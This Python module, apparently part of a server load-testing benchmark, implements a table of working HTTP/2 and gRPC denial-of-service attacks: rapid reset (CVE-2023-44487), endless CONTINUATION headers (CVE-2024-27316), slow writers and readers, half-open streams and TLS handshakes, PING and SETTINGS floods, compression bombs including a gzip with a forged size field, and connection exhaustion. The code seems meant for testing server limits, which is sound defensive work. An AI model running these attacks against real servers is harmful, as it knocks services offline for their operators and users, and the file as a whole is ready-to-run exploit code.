"""The attacks, each a generator: one step after another until whoever runs it has enough. Counts say what it got done.

A step is short, so that an attack ends when it should. `ATTACKS` is the table; attacker.py runs one in a process of its
own. What a server must do about each is in docs/guide/limits.md.
"""

import contextlib
import socket
import ssl
import time
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from itertools import cycle
from typing import Final

from hermetic.bench.flood.wire import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_STREAM,
    PING,
    RST_STREAM,
    SETTINGS,
    Connection,
    Door,
    frame,
    message,
)  # fmt: skip

MIB: Final = 1 << 20
PAUSE_S: Final = 0.02  # between two looks at what a server says
ABANDONED: Final = 24  # answers that a connection asks for before it hangs up
CLIENT_HELLO: Final = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"  # its first bytes; the rest never comes


@dataclass(slots=True)
class Attack:
    """What an attack works with: where, what a sound request of which method is, how hard, and what it got done."""

    door: Door
    method: str
    request: bytes
    strength: int
    counts: Counter[str] = field(default_factory=Counter)
    context: ssl.SSLContext = field(init=False)
    sockets: set[Connection | socket.socket] = field(default_factory=set)

    def __post_init__(self) -> None:
        self.context = self.door.context()

    def connect(self, *, window: int = 65535) -> Connection | None:
        """Return a connection, or None where the server takes no more."""
        try:
            connection = Connection(self.door, self.context, window=window)
        except OSError:
            self.counts["connections refused"] += 1
            return None
        self.counts["connections"] += 1
        self.sockets.add(connection)
        return connection

    def let_go(self, one: Connection | socket.socket) -> None:
        """Close one socket."""
        self.sockets.discard(one)
        one.close()

    def close(self) -> None:
        """Close all sockets."""
        for one in list(self.sockets):
            self.let_go(one)


def _on_connections(attack: Attack, step: Callable[[Connection], None], *, window: int = 65535) -> Iterator[None]:
    """Do `step` on `strength` connections in turn; one that the server closes is made anew."""
    open_ = [attack.connect(window=window) for _ in range(attack.strength)]
    while True:
        for at, connection in enumerate(open_):
            if connection is None:
                open_[at] = attack.connect(window=window)
            elif connection.gone:
                attack.counts["connections closed by the server"] += 1
                attack.let_go(connection)
                open_[at] = None
            else:
                _once(connection, step)
            yield


def _once(connection: Connection, step: Callable[[Connection], None]) -> None:
    try:
        step(connection)
        while connection.take():
            pass
    except OSError:
        connection.gone = True


def rapid_reset(attack: Attack) -> Iterator[None]:
    """Open a call and cancel it, over and over (CVE-2023-44487)."""

    def step(connection: Connection) -> None:
        out = bytearray()
        for _ in range(64):
            stream, opening = connection.headers(attack.method)
            del connection.windows[stream]
            out += opening + frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big"))
        connection.send(bytes(out))
        attack.counts["calls reset"] += 64

    return _on_connections(attack, step)


def half_open_streams(attack: Attack) -> Iterator[None]:
    """Open calls and send no message."""

    def step(connection: Connection) -> None:
        time.sleep(PAUSE_S)
        for _ in range(min(32, 256 - len(connection.windows))):
            connection.send(connection.headers(attack.method)[1])
            attack.counts["calls opened"] += 1

    return _on_connections(attack, step)


def slow_writers(attack: Attack) -> Iterator[None]:
    """Announce messages of 32 MiB and send a byte of each per second."""
    last: dict[Connection, float] = {}

    def step(connection: Connection) -> None:
        time.sleep(PAUSE_S)
        for _ in range(min(8, 129 - len(connection.windows))):
            stream, opening = connection.headers(attack.method)
            connection.send(opening + frame(DATA, 0, stream, message(b"", length=32 * MIB)))
            attack.counts["calls opened"] += 1
        if time.monotonic() - last.get(connection, 0.0) > 1.0:
            last[connection] = time.monotonic()
            for stream in connection.windows.keys() - {0}:
                attack.counts["bytes sent"] += connection.push(stream, b"x")

    return _on_connections(attack, step)


def unfinished_uploads(attack: Attack) -> Iterator[None]:
    """Send messages of 64 MiB as fast as the windows allow, and never the last byte."""
    sent: dict[tuple[Connection, int], int] = {}
    block = bytes(16384)

    def step(connection: Connection) -> None:
        for _ in range(min(8, 65 - len(connection.windows))):
            stream, opening = connection.headers(attack.method)
            connection.send(opening + frame(DATA, 0, stream, message(b"", length=64 * MIB)))
            sent[connection, stream] = 0
            attack.counts["calls opened"] += 1
        pushed = 0
        for stream in connection.windows.keys() - {0}:
            left = 64 * MIB - 1 - sent.get((connection, stream), 0)
            size = connection.push(stream, block[:left])
            sent[connection, stream] = sent.get((connection, stream), 0) + size
            pushed += size
        attack.counts["bytes sent"] += pushed
        if not pushed:
            connection.take(PAUSE_S)

    return _on_connections(attack, step)


def slow_readers(attack: Attack) -> Iterator[None]:
    """Ask, and read no answer."""

    def step(connection: Connection) -> None:
        time.sleep(PAUSE_S)
        for _ in range(min(8, 257 - len(connection.windows))):
            stream, opening = connection.headers(attack.method)
            connection.send(opening + frame(DATA, END_STREAM, stream, message(attack.request)))
            attack.counts["requests"] += 1

    return _on_connections(attack, step, window=0)


def abandoned_answers(attack: Attack) -> Iterator[None]:
    """Ask, read no answer, and hang up on all connections at once; then come again."""
    held: list[Connection] = []

    def ask(connection: Connection) -> None:
        stream, opening = connection.headers(attack.method)
        connection.send(opening + frame(DATA, END_STREAM, stream, message(attack.request)))
        attack.counts["requests"] += 1

    while True:
        if len(held) < attack.strength and (connection := attack.connect(window=0)) is not None:
            held.append(connection)
        asked = [len(connection.windows) > ABANDONED for connection in held]
        if all(asked):
            attack.counts["hung up"] += len(held)
            while held:
                attack.let_go(held.pop())
        for connection in held:
            if len(connection.windows) <= ABANDONED:
                _once(connection, ask)
        time.sleep(PAUSE_S)
        yield


def bombs(attack: Attack) -> Iterator[None]:
    """Send 64 KiB that inflate to 64 MiB of nothing, in turn: gzip, gzip that says it is small, and deflate."""
    gzip, deflate = _packed_zeros(zlib.MAX_WBITS + 16), _packed_zeros(zlib.MAX_WBITS)
    liar = gzip[:-4] + (6 * MIB).to_bytes(4, "little")  # its last field, what it inflates to
    kinds = cycle((("gzip", gzip), ("gzip", liar), ("deflate", deflate)))

    def step(connection: Connection) -> None:
        coding, bomb = next(kinds)
        stream, opening = connection.headers(attack.method, more={"grpc-encoding": coding})
        connection.send(opening)
        data = message(bomb, compressed=True)
        while data and stream in connection.windows and not connection.gone:
            size = connection.push(stream, data)
            data = data[size:]
            if not size:
                connection.take(PAUSE_S)
        attack.counts["bombs"] += 1

    return _on_connections(attack, step)


def _packed_zeros(bits: int) -> bytes:
    """Return 70 MiB of zeros, packed; `bits` are zlib's, for the header."""
    deflater = zlib.compressobj(9, zlib.DEFLATED, bits)
    zeros = bytes(MIB)
    return b"".join(deflater.compress(zeros) for _ in range(70)) + deflater.flush()


def pings(attack: Attack) -> Iterator[None]:
    """Send nothing but PING frames."""
    out = frame(PING, 0, 0, bytes(8)) * 512

    def step(connection: Connection) -> None:
        connection.send(out)
        attack.counts["frames"] += 512

    return _on_connections(attack, step)


def settings(attack: Attack) -> Iterator[None]:
    """Send nothing but SETTINGS frames, each of which wants an answer."""
    out = frame(SETTINGS, 0, 0, (4).to_bytes(2, "big") + (65535).to_bytes(4, "big")) * 512

    def step(connection: Connection) -> None:
        connection.send(out)
        attack.counts["frames"] += 512

    return _on_connections(attack, step)


def continuations(attack: Attack) -> Iterator[None]:
    """Send headers that never end (CVE-2024-27316)."""
    part = b"\x00\x06x-more\x7f\x81\x00" + b"x" * 256

    def step(connection: Connection) -> None:
        stream, opening = connection.headers(attack.method)
        del connection.windows[stream]
        head = opening[:4] + b"\0" + opening[5:]  # without END_HEADERS
        connection.send(head + frame(CONTINUATION, 0, stream, part * 8) * 64)
        attack.counts["frames"] += 65

    return _on_connections(attack, step)


def half_open_handshakes(attack: Attack) -> Iterator[None]:
    """Connect, say half a ClientHello, and wait; connect again when that is closed."""
    waiting: list[socket.socket] = []
    while True:
        for _ in range(32):
            if len(waiting) < attack.strength:
                try:
                    plain = attack.door.plain()
                    plain.sendall(CLIENT_HELLO)
                except OSError:
                    attack.counts["connections refused"] += 1
                    break
                plain.setblocking(False)  # noqa: FBT003
                waiting.append(plain)
                attack.sockets.add(plain)
                attack.counts["connections"] += 1
        time.sleep(PAUSE_S)
        for plain in list(waiting):
            with contextlib.suppress(BlockingIOError):
                if not _read(plain):
                    attack.let_go(plain)
                    waiting.remove(plain)
                    attack.counts["connections closed by the server"] += 1
        yield


def connections(attack: Attack) -> Iterator[None]:
    """Make connection after connection, each with its handshake, and keep them."""
    kept: list[Connection] = []
    while True:
        if len(kept) < attack.strength and (connection := attack.connect()) is not None:
            kept.append(connection)
        else:
            time.sleep(PAUSE_S)
        yield


def _read(plain: socket.socket) -> bytes:
    try:
        return plain.recv(4096)
    except BlockingIOError:
        raise
    except OSError:
        return b""


@dataclass(frozen=True, slots=True)
class Kind:
    """An attack and its usual strength: connections, or for half-open handshakes the sockets that wait."""

    run: Callable[[Attack], Iterator[None]]
    strength: int


ATTACKS: Final[dict[str, Kind]] = {
    "rapid-reset": Kind(rapid_reset, 4),
    "half-open-streams": Kind(half_open_streams, 16),
    "half-open-handshakes": Kind(half_open_handshakes, 800),
    "slow-writers": Kind(slow_writers, 16),
    "slow-readers": Kind(slow_readers, 8),
    "abandoned-answers": Kind(abandoned_answers, 8),
    "unfinished-uploads": Kind(unfinished_uploads, 4),
    "bombs": Kind(bombs, 2),
    "pings": Kind(pings, 4),
    "settings": Kind(settings, 4),
    "continuations": Kind(continuations, 4),
    "connections": Kind(connections, 10_000),
}
